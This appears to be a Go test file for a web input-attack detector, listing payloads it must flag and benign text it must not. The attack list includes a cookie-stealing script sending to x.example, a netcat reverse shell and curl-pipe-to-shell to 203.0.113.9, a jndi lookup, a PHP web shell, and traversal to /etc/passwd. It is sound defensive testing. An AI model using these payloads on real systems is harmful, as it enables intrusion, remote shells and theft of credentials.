package analyze

import (
	"encoding/base64"
	"net/url"
	"strings"
	"testing"
)

// attacks: each must be found at High confidence, of its class.
var attacks = []struct {
	class Class
	place Place
	v     string
}{
	// SQL injection: string, number and parenthesis break-outs
	{SQLi, Arg, "1' OR '1'='1"},
	{SQLi, Arg, "admin'--"},
	{SQLi, Arg, "x'; DROP TABLE auth_user; --"},
	{SQLi, Arg, "7 UNION ALL SELECT username, password FROM auth_user"},
	{SQLi, Arg, "42) AND 3=3 AND (5=5"},
	{SQLi, Arg, "9 AND SLEEP(5)"},
	{SQLi, Arg, "' AND extractvalue(1,concat(0x7e,version()))-- -"},
	{SQLi, Arg, "abc') OR json_length('[1]') = 1 AND ('a'='a"},
	{SQLi, Arg, "/*!50000UNION*/ /*!50000SELECT*/ 1,2"},
	{SQLi, Arg, "1;WAITFOR DELAY '0:0:5'--"},
	{SQLi, Header, "' OR 1=1 LIMIT 1 -- "},
	{SQLi, Arg, "admin' #"},
	// XSS: markup, attribute break-outs, script URLs, script contexts
	{XSS, Arg, "<script>new Image().src='//x.example/?'+document.cookie</script>"},
	{XSS, Arg, "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"},
	{XSS, Arg, "<details open ontoggle=confirm(2)>"},
	{XSS, Arg, "<a href=\"jav&#x09;ascript:alert(3)\">x</a>"},
	{XSS, Arg, "<iframe srcdoc=\"&lt;img src=x onerror=alert(4)&gt;\">"},
	{XSS, Arg, "\" autofocus onfocus=\"alert(5)"},
	{XSS, Arg, "' onmouseenter='top.location=`//x.example`"},
	{XSS, Arg, "javascript:fetch('//x.example/'+document.cookie)"},
	{XSS, Arg, "';setTimeout`alert\\x286\\x29`;//"},
	{XSS, Arg, "[7].map(alert)"},
	{XSS, Arg, "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCg4KTwvc2NyaXB0Pg==\">"},
	{XSS, Arg, "<math><mi xlink:href=\"javascript:alert(9)\">x</mi></math>"},
	{XSS, Path, "/products/<img src=1 onerror=prompt(10)>"},
	{XSS, Arg, "%3Cimg%20src%3Dx%20onerror%3Dalert(11)%3E"},
	{XSS, Arg, "&lt;body onpageshow=alert(12)&gt;"},
	{XSS, Arg, "\\u003cscript\\u003ealert(13)\\u003c/script\\u003e"},
	{XSS, Arg, "＜script＞alert(14)＜/script＞"},
	// command injection
	{Shell, Arg, "8.8.8.8; id"},
	{Shell, Arg, "report.pdf | nc -e /bin/sh 203.0.113.9 4444"},
	{Shell, Arg, "`whoami`"},
	{Shell, Arg, "x$(curl -s http://203.0.113.9/s.sh|sh)"},
	{Shell, Arg, "127.0.0.1&&c'a't /etc/hosts"},
	{Shell, Arg, ";${IFS}uname${IFS}-a"},
	{Shell, Arg, "a\nsleep 10\n"},
	{Shell, Header, "() { ignored; }; /bin/bash -c 'id'"},
	{Shell, Arg, "| ping -n 5 127.0.0.1"},
	{Shell, Arg, "x; echo $((41*43))"},
	{Shell, Arg, "0<&196;exec 196<>/dev/tcp/203.0.113.9/4444"},
	// code injection and deserialization
	{Code, Arg, "<?php echo shell_exec($_GET['c']); ?>"},
	{Code, Arg, "__import__('os').popen('id').read()"},
	{Code, Arg, "${jndi:ldap://203.0.113.9/a}"},
	{Code, Arg, "require('child_process').execSync('id')"},
	{Code, Arg, "!!python/object/apply:os.system ['id']"},
	{Code, Arg, "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=="},
	// template injection
	{Template, Arg, "{{ 7*191 }}"},
	{Template, Arg, "{{ ''.__class__.__mro__[1].__subclasses__() }}"},
	{Template, Arg, "{% debug %}"},
	{Template, Arg, "${T(java.lang.Runtime).getRuntime().exec('id')}"},
	{Template, Arg, "#{ 12 * 12 }"},
	{Template, Arg, "<%= 9 * 9 %>"},
	{Template, Arg, "{{ request.application.__globals__ }}"},
	{SSI, Arg, "<!--#include virtual=\"/etc/passwd\" -->"},
	{SSI, Arg, "<!--#echo var=\"DATE_LOCAL\" -->"},
	// NoSQL
	{NoSQL, Name, "username[$ne]"},
	{NoSQL, Name, "json.password.$gt"},
	{NoSQL, Arg, `{"$where": "sleep(100)"}`},
	{NoSQL, Arg, "'; return db.getCollectionNames(); var x='"},
	{NoSQL, Arg, "db.users.find({})"},
	{NoSQL, Arg, "x' || this.password.match(/.*/) || 'a'=='b"},
	// LDAP
	{LDAP, Arg, "*)(uid=*))(|(uid=*"},
	{LDAP, Arg, "admin)(|(objectClass=*)"},
	{LDAP, Arg, "(|(cn=*)(mail=*))"},
	{LDAP, Arg, "cn:1.3.6.1.4.1.1466.109.114.2:=Admin"},
	{LDAP, Arg, "admin*)((|userPassword=*)"},
	// CR/LF: mail headers, response splitting, mail commands
	{CRLF, Arg, "alice@example.com\r\nBcc: list@example.net"},
	{CRLF, Arg, "\nRCPT TO:<victim@example.net>\n"},
	{CRLF, Arg, "x\r\nSet-Cookie: sessionid=attacker"},
	{CRLF, Path, "/go/%0d%0aLocation:%20http://x.example/"},
	{CRLF, Arg, "\r\nA1 LOGIN admin secret\r\n"},
	// path traversal
	{Traversal, Arg, "../../../../etc/passwd"},
	{Traversal, Arg, "..%2f..%2f..%2fetc%2fshadow"},
	{Traversal, Arg, "..\\..\\..\\windows\\win.ini"},
	{Traversal, Arg, "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/hosts"},
	{Traversal, Arg, "/proc/self/environ"},
	{Traversal, Arg, "....//....//....//etc/group"},
	{Traversal, Path, "/static/../../../../app/.env"},
	{Traversal, Arg, `\\fileserver\c$\windows\system32\config\sam`},
	// SSRF
	{SSRF, Arg, "http://169.254.169.254/latest/meta-data/iam/"},
	{SSRF, Arg, "http://2852039166/latest/"},
	{SSRF, Arg, "http://0xA9FEA9FE/"},
	{SSRF, Arg, "http://[::ffff:169.254.169.254]/"},
	{SSRF, Arg, "http://metadata.google.internal/computeMetadata/v1/"},
	{SSRF, Arg, "gopher://127.0.0.1:6379/_FLUSHALL"},
	{SSRF, Arg, "dict://10.0.0.5:11211/stats"},
	{SSRF, Arg, "http://0177.0.0.1:8000/admin/"},
	{SSRF, Arg, "http://127.1/"},
	// open redirects
	{Redirect, ReturnTo, "//x.example/login"},
	{Redirect, ReturnTo, "/\\x.example"},
	{Redirect, ReturnTo, "https:x.example"},
	{Redirect, ReturnTo, "https://www.example.com@x.example/"},
	{Redirect, ReturnTo, "\t//x.example"},
	{Redirect, ReturnTo, "javascript:alert(document.domain)"},
}

func TestAttacksFoundHigh(t *testing.T) {
	for _, c := range attacks {
		a := New(All, c.place)
		f := a.Inspect(c.v)
		if f.Confidence != High || f.Class != c.class {
			var r Report
			a.InspectAll(c.v, &r)
			got := r.Best(Of(c.class))
			if got.Confidence == High {
				continue // found High as its own class; another class ranked first
			}
			t.Errorf("%q at %d: %s, want %s/high (its own class: %s)", c.v, c.place, f, c.class, got)
		}
	}
}

// Encoded forms of attacks are decoded before they are judged, and the
// finding says how.
func TestEncodedAttacks(t *testing.T) {
	payload := "<script src=//x.example/a.js></script>"
	b64 := base64.StdEncoding.EncodeToString([]byte(payload))
	for _, c := range []struct{ v, via string }{
		{b64, "base64"},
		{strings.TrimRight(b64, "="), "base64"},
		{base64.RawURLEncoding.EncodeToString([]byte(payload)), "base64"},
		{url.QueryEscape(url.QueryEscape(payload)), "url>url>plus"},
		{"&#60;script src=//x.example/a.js&#x3e;&#60;/script&#62;", "html"},
		{"\\u003cscript src=//x.example/a.js\\u003e\\u003c/script\\u003e", "js"},
		{strings.ReplaceAll(b64, "+", " "), "base64"}, // a '+' read as a space by a form decoder
		{"<scr\x00ipt src=//x.example/a.js></script>", "fold"},
		{"%uff1cscript src=//x.example/a.js%uff1e", "url>fold"},
	} {
		f := New(All, Arg).Inspect(c.v)
		if f.Confidence != High || f.Class != XSS || f.Via != c.via {
			t.Errorf("%q: %s, want xss/high via %s", c.v, f, c.via)
		}
	}
}

// What people type: none of it is an attack the analyzer would block
// alone (High); most of it is nothing at all.
var benign = []struct {
	place Place
	v     string
}{
	{Arg, "O'Reilly; SELECT your plan -- 50% off <b>bold</b>"},
	{Arg, "O'Reilly; SELECT your plan"},
	{Arg, "union was a great select"},
	{Arg, "john+or@var.es"},
	{Arg, "zsh is the best!"},
	{Arg, "JavaScript: Basics of JavaScript Language"},
	{Arg, "ls 300 lexus"},
	{Arg, "D'or 1st parfume"},
	{Arg, "h2<h1"},
	{Arg, "1) a-b=c"},
	{Arg, "Tom & Jerry's \"great\" adventure (1990)"},
	{Arg, "It's 5 o'clock; cats & dogs | rain"},
	{Arg, "SELECT name FROM users WHERE id = 1;"},
	{Arg, "Use `ls -la | grep foo` to list them"},
	{Arg, "<p>See <a href=\"https://docs.djangoproject.com/\">the docs</a> and <em>enjoy</em>.</p>"},
	{Arg, "<img src=\"/media/photo.jpg\" alt=\"Sunset\">"},
	{Arg, "Hello {{ user.first_name }}, your order {% if paid %}is paid{% endif %}."},
	{Arg, "a=1&b=2&c=3"},
	{Arg, "price >= 10 && price <= 20"},
	{Arg, "Contact: alice@example.com, +44 20 7946 0958"},
	{Arg, "https://www.example.com/search?q=django+rest&page=2#top"},
	{Arg, "http://localhost:8000/"},
	{Arg, "C:\\Users\\alice\\Documents\\report.docx"},
	{Arg, "../images/logo.png"},
	{Arg, "Ünïcödé, 東京, Ελληνικά, עברית, 😀"},
	{Arg, "3e4b0c5a-9c1d-4f3e-8a2b-6d7e8f9a0b1c"},
	{Arg, "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl"},
	{Arg, "dGhpcyBpcyBhIHBsYWluIHNlbnRlbmNlIGluIGJhc2U2NA"},
	{Arg, "Dear team,\nTo: whoever reads this\nThanks for the help!\nBob"},
	{Arg, "Steps:\n1. run make\n2. cat the log\n3. done"},
	{Arg, "I'd say 2 or 3 bedrooms; budget < $500k"},
	{Arg, "Pat's # one fan"},
	{Arg, "Is it safe to use eval() in Python? I've heard it's dangerous."},
	{Arg, "Where is the C:\\Windows\\System32 folder on Windows 11?"},
	{Arg, "(see the notes) and (the appendix)"},
	{Arg, "for item in items:\n    if item.price > 10 and item.stock:\n        print(f\"{item.name}: {item.price}\")\n"},
	{Arg, "My email is bob@example.com; phone (555) 010-9999"},
	{Name, "filter[status]"},
	{Name, "json.items.0.name"},
	{Header, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"},
	{Header, "https://www.example.com/blog/?utm_source=newsletter&utm_medium=email"},
	{Path, "/blog/2025/03/union-station-reopens/"},
	{Path, "/static/css/site.3f9a2b.css"},
	{ReturnTo, "/account/?tab=settings"},
	{ReturnTo, "/admin/testapp/article/?q=select"},
}

func TestBenignNotHigh(t *testing.T) {
	for _, c := range benign {
		if f := New(All, c.place).Inspect(c.v); f.Confidence == High {
			t.Errorf("%q at %d: %s", c.v, c.place, f)
		}
	}
}

// Values that cannot carry code stop at the first scan.
func TestMayCarryCode(t *testing.T) {
	for v, want := range map[string]bool{
		"": false, "42": false, "spring_sale_2025": true, "abc": false, "3e4b0c5a-9c1d": true,
		"union station": true, "a'b": true, "x.y": false,
	} {
		if got := mayCarryCode(v); got != want {
			t.Errorf("mayCarryCode(%q) = %v, want %v", v, got, want)
		}
	}
}

func TestProse(t *testing.T) {
	for v, want := range map[string]bool{
		"O'Reilly; SELECT your plan -- 50% off <b>bold</b>": true,
		"zsh is the best!": true,
		"ls 300 lexus":     true,
		"1' OR '1'='1":     false,
		"<script>alert(document.cookie)</script>":              false,
		";var d = new Date(); do{x = new Date();}while(x-d<5)": false,
		"single": false,
	} {
		if got := Prose(v); got != want {
			t.Errorf("Prose(%q) = %v, want %v", v, got, want)
		}
	}
}

// The decoders stay within their bounds: at most maxViews views, each
// no longer than the value.
func TestDecodeBounds(t *testing.T) {
	v := strings.Repeat("%2525252541", 50) + base64.StdEncoding.EncodeToString([]byte(strings.Repeat("&#x3c;", 20)))
	views := decodeViews(v, Arg, nil)
	if len(views) > maxViews {
		t.Fatalf("%d views", len(views))
	}
	for _, w := range views {
		if len(w.s) > len(v) {
			t.Errorf("view %s is longer (%d) than the value (%d)", w.via, len(w.s), len(v))
		}
		if strings.Count(w.via, ">")+1 > maxDepth+1 {
			t.Errorf("view %s is deeper than %d", w.via, maxDepth)
		}
	}
}

// TestAtLeastAgreesWithBest checks AtLeast against Best for every single
// class and pair of classes and every confidence, on the reports of the
// attack list (which find classes at every confidence) and a few benign
// values.
func TestAtLeastAgreesWithBest(t *testing.T) {
	values := []string{"hello world", "user@example.com", "1 or 1", "{{ name }}", "<b>bold</b>"}
	for _, c := range attacks {
		values = append(values, c.v)
	}
	seen := map[Confidence]int{}
	for _, v := range values {
		for _, place := range []Place{Arg, Name, Path, Header, ReturnTo} {
			var r Report
			New(All, place).InspectAll(v, &r)
			for conf := Low; conf <= High; conf++ {
				at := r.AtLeast(conf)
				for c1 := Class(1); c1 < numClasses; c1++ {
					seen[r.byClass[c1].Confidence]++
					for c2 := c1; c2 < numClasses; c2++ {
						set := Of(c1) | Of(c2)
						if got, want := set&at != 0, r.Best(set).Confidence >= conf; got != want {
							t.Fatalf("%q at %d, classes %v, >= %s: AtLeast says %v, Best %v", v, place, set, conf, got, want)
						}
					}
				}
			}
		}
	}
	for conf := NoFinding; conf <= High; conf++ {
		if seen[conf] == 0 {
			t.Errorf("no report has a finding of confidence %s: the test does not cover it", conf)
		}
	}
}
